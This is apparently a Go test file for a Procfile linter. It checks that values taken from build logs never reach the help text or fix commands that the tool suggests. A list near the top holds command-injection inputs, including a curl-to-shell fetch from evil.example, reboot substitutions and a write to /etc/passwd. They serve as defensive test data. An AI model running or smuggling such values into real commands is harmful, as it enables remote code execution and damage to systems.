package messages

import (
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/proclint/proclint/lint"
	"github.com/proclint/proclint/lint/logs"
	"github.com/proclint/proclint/lint/logs/ascii"
	"github.com/proclint/proclint/lint/logs/lex"
	"github.com/proclint/proclint/lint/repository"
)

// hostile are texts that a log may have in place of a name, and that do more than a name in a shell.
var hostile = []string{"a;curl${IFS}evil.example|sh", "x&&reboot", "`reboot`", "$(reboot)", "-rf", "evil>/etc/passwd"}

// runs reports whether a text in Markdown has a text in code that a person may run: not where the code only names it.
func runs(markdown, text string) bool {
	parts := strings.Split(markdown, "`")
	for i, code := range parts {
		before := parts[max(0, i-1)]
		quotes := !strings.Contains(code, " ") && !strings.HasSuffix(strings.ToLower(before), "run ")
		if i%2 == 1 && strings.Contains(code, text) && !quotes {
			return true
		}
	}
	return false
}

// checkCommands reports what of a text a person may run in a diagnosis.
func checkCommands(t *testing.T, from, text string, d *logs.Diagnosis) {
	t.Helper()
	for _, c := range d.Causes {
		if strings.Contains(c.Help, text) && runs(c.Help, text) {
			t.Errorf("%s: the help of %s is %s", from, c.Name, c.Help)
		}
		for _, f := range c.Fixes {
			if strings.Contains(f.Command, text) || strings.Contains(f.Diff, "+"+text) {
				t.Errorf("%s: %s has the fix %+v", from, c.Name, f)
			}
		}
	}
}

// withValues is a log whose values, as the table captures them, are another text.
func withValues(table *logs.Table, log, text string) (changed string, any bool) {
	tried := table.Attempts()
	raw := strings.Split(log, "\n")
	lex.EachLine(log, nil, func(l *lex.Line) {
		if l.Number >= len(raw) {
			return
		}
		m, _ := table.Match(l, tried)
		if m.Message == nil || len(m.Is) == 0 {
			return
		}
		values, _ := m.Named()
		for _, name := range slices.Sorted(maps.Keys(values)) {
			if value := values[name]; len(value) > 2 && value != m.Fixed(name) && !ascii.Digits(value) && strings.Count(raw[l.Number], value) == 1 {
				raw[l.Number] = strings.Replace(raw[l.Number], value, text, 1)
				any = true
			}
		}
	})
	return strings.Join(raw, "\n"), any
}

// TestNoTextOfALogBecomesACommand: whatever text is in the place of a name, neither the help nor a fix has it in what a person runs.
func TestNoTextOfALogBecomesACommand(t *testing.T) {
	table := whole(t)
	tried := 0
	for i, m := range table.Messages {
		for _, line := range m.Lines[:min(len(m.Lines), 1)] {
			text := hostile[i%len(hostile)]
			if log, changed := withValues(table, line, text); changed {
				tried++
				checkCommands(t, log, text, table.Of(log, nil))
			}
		}
	}
	paths, err := filepath.Glob("../testdata/cases/*.txtar")
	if err != nil || len(paths) == 0 {
		t.Fatalf("no cases: %v", err)
	}
	for i, path := range paths {
		ar, err := txtar.ParseFile(path)
		if err != nil {
			t.Fatal(err)
		}
		in := lint.Input{Path: "Procfile"}
		list := repository.List{Texts: map[string]string{}}
		log := ""
		for _, f := range ar.Files[1:] {
			if f.Name == "log" {
				log = string(f.Data)
				continue
			}
			list.Listed = append(list.Listed, f.Name)
			list.Texts[f.Name] = string(f.Data)
			if f.Name == "Procfile" {
				in.Source = f.Data
			}
		}
		in.Repository = repository.New(list, "")
		text := hostile[i%len(hostile)]
		if log, changed := withValues(table, log, text); changed {
			tried++
			checkCommands(t, path, text, table.Of(log, &in))
		}
	}
	if tried < 1400 {
		t.Errorf("only %d logs are tried", tried)
	}
}
